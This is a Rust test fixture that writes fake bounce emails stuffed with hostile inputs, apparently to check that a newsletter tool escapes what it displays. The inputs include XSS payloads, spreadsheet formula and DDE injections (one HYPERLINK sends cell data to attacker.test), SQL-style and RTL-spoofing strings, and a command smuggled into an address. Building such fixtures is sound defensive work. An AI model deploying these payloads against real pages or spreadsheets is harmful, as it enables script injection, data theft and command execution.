//! A mailbox whose every word is written to do harm where it is shown: in a page, in a spreadsheet.

use std::fmt::Write;
use std::fs;
use std::path::Path;

/// Names of campaigns and lists, and beginnings of servers' replies.
pub(crate) const NAMES: [&str; 14] = [
    "<script>window.ran='script'</script>",
    "\"><img src=x onerror=\"window.ran='img'\">",
    "'><svg onload=window.ran='svg'>",
    "javascript:window.ran='javascript'",
    "</title></style></table><iframe srcdoc='<script>parent.ran=1</script>'>",
    "<style>*{display:none}</style><link rel=stylesheet href=//attacker.test/x.css>",
    "&lt;b&gt; &amp;amp; &#x3c;i&#x3e; {{7*7}} ${7*7} <!-- ]]>",
    "moc.elpmaxe\u{202e}gnp.exe\u{2066}\u{200b}hidden",
    "=HYPERLINK(\"http://attacker.test/?\"&A1,\"look\")",
    "=cmd|'/C calc'!A0",
    "+1+1-cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "plain;=1+1;\"quoted\",=2+2",
];

/// Contacts whose addresses are correct, and no less hostile.
const ADDRESSES: [&str; 8] = [
    "\"<script>window.ran='address'</script>\"@fig.example.com",
    "=1+1@fig.example.com",
    "+1@fig.example.com",
    "-1@fig.example.com",
    "|calc@fig.example.com",
    "'or'1'='1@fig.example.com",
    "ann&lt;b&gt;@fig.example.com",
    "ann@gmial.com",
];

/// Writes the mailbox: a folder of `.eml` files.
pub(crate) fn write(folder: &Path) {
    fs::create_dir(folder).expect("a new folder");
    let long = "w".repeat(2_000);
    let wide = "\u{feff}\u{202e}\u{5d0}\u{5d1}\u{5d2}".repeat(100);
    let texts = NAMES.into_iter().chain([long.as_str(), wide.as_str()]);
    let mut day = 0_u32;
    let mut keep = |message: String| {
        let file = folder.join(format!("{day:03}.eml"));
        fs::write(file, message.replace('\n', "\r\n")).expect("written");
        day += 1;
    };
    for (index, text) in texts.enumerate() {
        let contact = format!("contact{index}@alder.example.net");
        // Some about the contact, some about the sender: each is shown elsewhere on the page.
        let (status, reply) = match index % 3 {
            0 => ("5.1.1", "550 5.1.1 no such user"),
            1 => ("5.7.1", "550 5.7.1 blocked using zen.spamhaus.org"),
            _ => ("5.2.2", "552 5.2.2 mailbox full"),
        };
        keep(bounce(&contact, status, &format!("{text} {reply} {text}"), text));
    }
    for address in ADDRESSES {
        let (status, reply) = if address.ends_with("gmial.com") {
            ("5.1.2", "550 5.1.2 host unknown: domain not found")
        } else {
            ("5.1.1", "550 5.1.1 no such user")
        };
        keep(bounce(address, status, reply, "autumn"));
    }
    keep(moved());
    keep(ordinary());
}

/// A report about what was sent to `contact` in a campaign of this name.
fn bounce(contact: &str, status: &str, diagnostic: &str, campaign: &str) -> String {
    let mut message = String::new();
    let _ = write!(
        message,
        "Return-Path: <>
Date: Tue, 1 Sep 2026 06:00:00 +0000
From: MAILER-DAEMON@mail.news.example.org
To: newsletter@news.example.org
Subject: Undelivered Mail Returned to Sender
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary=\"=_b\"

--=_b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

<{contact}>: {diagnostic}

--=_b
Content-Type: message/global-delivery-status
Content-Transfer-Encoding: 8bit

Reporting-MTA: dns; mail.news.example.org

Final-Recipient: rfc822; {contact}
Action: failed
Status: {status}
Diagnostic-Code: smtp; {diagnostic}

--=_b
Content-Type: message/global
Content-Transfer-Encoding: 8bit

Date: Tue, 1 Sep 2026 05:59:00 +0000
From: newsletter@news.example.org
To: {contact}
Subject: {campaign}
Message-ID: <{}@news.example.org>
X-Campaign: {campaign}

Hello.
--=_b--
",
        contact.len() * 1_000 + campaign.len(),
    );
    message
}

/// Somebody announces an address that is none.
fn moved() -> String {
    "Date: Wed, 2 Sep 2026 06:00:00 +0000
From: Ann <ann.old@fig.example.com>
To: newsletter@news.example.org
Subject: My email address has changed
Auto-Submitted: auto-replied
Content-Type: text/plain; charset=utf-8

My email address has changed. From now on please write to me at

    =ann+cmd|new@oak.example.org

My old address ann.old@fig.example.com will be switched off.
"
    .to_owned()
}

fn ordinary() -> String {
    "Date: Thu, 3 Sep 2026 06:00:00 +0000
From: Eve <eve@attacker.test>
To: newsletter@news.example.org
Subject: <script>window.ran='subject'</script>

<script>window.ran='body'</script> Lunch on Friday?
"
    .to_owned()
}
